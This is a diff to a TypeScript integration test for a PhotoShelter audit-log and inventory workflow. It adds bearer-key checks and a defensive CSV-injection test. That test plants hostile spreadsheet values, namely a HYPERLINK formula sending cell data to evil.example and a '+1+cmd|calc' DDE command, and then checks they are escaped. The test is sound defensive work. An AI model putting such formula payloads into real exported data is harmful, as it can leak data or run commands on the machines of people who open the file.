@@ -29,6 +29,9 @@ function readTable(file: string, columns?: string[]): Array<Record<string, strin
   return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
 }
 
+/** The key of the audited update endpoint, as the demo sets one. */
+const AUDITED_UPDATE_KEY = 'job7-test-audit-key-0123456789abcdef';
+
 describe('example 7, audit log and metadata inventory, as shipped in a real runtime', function () {
   this.timeout(180_000);
   let sim: SimHandle;
@@ -42,7 +45,7 @@ describe('example 7, audit log and metadata inventory, as shipped in a real runt
   const deliveries = () => (existsSync(join(audit, 'deliveries.csv')) ? readTable(join(audit, 'deliveries.csv'), DELIVERY_COLUMNS) : []);
   const updates = () => (existsSync(join(audit, 'updates.csv')) ? readTable(join(audit, 'updates.csv'), UPDATE_COLUMNS) : []);
   const update = async (body: unknown) => {
-    const res = await fetch(`${red.url}/photoshelter/audited-update`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
+    const res = await fetch(`${red.url}/photoshelter/audited-update`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${AUDITED_UPDATE_KEY}` }, body: JSON.stringify(body) });
     return { status: res.status, json: (await res.json()) as Record<string, unknown> };
   };
   const truths = async () => Promise.all((await sim.control.mediaIds()).map((id) => sim.control.media(id)));
@@ -56,6 +59,7 @@ describe('example 7, audit log and metadata inventory, as shipped in a real runt
       env: {
         ...photoshelterEnv(sim),
         PHOTOSHELTER_OUT_DIR: outDir,
+        AUDITED_UPDATE_KEY,
       },
     });
     flows = JSON.parse(readFileSync(FLOW, 'utf8')) as unknown[];
@@ -148,6 +152,26 @@ describe('example 7, audit log and metadata inventory, as shipped in a real runt
     assert.equal(readFileSync(join(audit, 'updates.csv'), 'utf8').split('\n').filter((l) => l.startsWith('time,')).length, 1);
   });
 
+  it('refuses an update without the key (401) and writes nothing', async () => {
+    const [id] = await sim.control.mediaIds();
+    const rowsBefore = updates().length;
+    await sim.control.clearRequests();
+    for (const authorization of [undefined, 'Bearer wrong', `Basic ${Buffer.from(`x:${AUDITED_UPDATE_KEY}`).toString('base64')}`]) {
+      const res = await fetch(`${red.url}/photoshelter/audited-update`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) },
+        body: JSON.stringify({ id, fields: { Campaign: 'Hijacked' } }),
+      });
+      assert.equal(res.status, 401, String(authorization));
+      const answer = (await res.json()) as { error: string };
+      assert.match(answer.error, /AUDITED_UPDATE_KEY/);
+      assert.ok(!JSON.stringify(answer).includes(AUDITED_UPDATE_KEY), 'the key is not in the answer');
+    }
+    assert.equal((await sim.control.requests()).filter((r) => r.method !== 'GET').length, 0, 'nothing was written');
+    assert.notEqual((await sim.control.media(id)).custom.Campaign, 'Hijacked');
+    assert.equal(updates().length, rowsBefore, 'and nothing audited as an update');
+  });
+
   it('exports the inventory of the scope: the header once, one row per asset, values as in PhotoShelter, and a summary', async () => {
     const state = await sim.control.state();
     const inTree = new Set([DEFAULT_SCOPE]);
@@ -158,6 +182,9 @@ describe('example 7, audit log and metadata inventory, as shipped in a real runt
     const galleries = state.galleries.filter((g) => g.parents.some((p) => inTree.has(p)));
     const ids = [...new Set((await Promise.all(galleries.map((g) => sim.control.mediaIds(g.id)))).flat())];
     assert.ok(ids.length >= 10, `the default scope has media (${ids.length})`);
+    // metadata that a spreadsheet would run as a formula (OWASP CSV injection)
+    const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    await sim.control.patchMedia(ids[0], { iptc: { caption: FORMULA, title: '+1+cmd|calc', headline: '-2', city: '@SUM(A1)' } });
     assert.equal((await red.admin('POST', '/inject/job7.inv.now')).status, 200);
     await waitFor(() => /inventory complete/.test(red.output()), 'the summary', 60_000);
     const [name] = readdirSync(audit).filter((f) => /^inventory-\d{4}-\d{2}-\d{2}\.csv$/.test(f));
@@ -165,7 +192,12 @@ describe('example 7, audit log and metadata inventory, as shipped in a real runt
     const rows = readTable(join(audit, name));
     assert.equal(rows.length, ids.length, 'one row per asset');
     assert.deepEqual(rows.map((r) => r.id).sort(), [...ids].sort());
-    for (const r of rows) {
+    const formulaRow = rows.find((r) => r.id === ids[0]) as Record<string, string>;
+    assert.equal(formulaRow.caption, `'${FORMULA}`, 'a formula is written as text');
+    assert.equal(formulaRow.title, "'+1+cmd|calc");
+    assert.equal(formulaRow.headline, "'-2");
+    assert.equal(formulaRow.city, "'@SUM(A1)");
+    for (const r of rows.filter((x) => x.id !== ids[0])) {
       const t = await sim.control.media(r.id);
       assert.equal(r.fileName, t.file_name);
       assert.equal(Number(r.width), t.width);
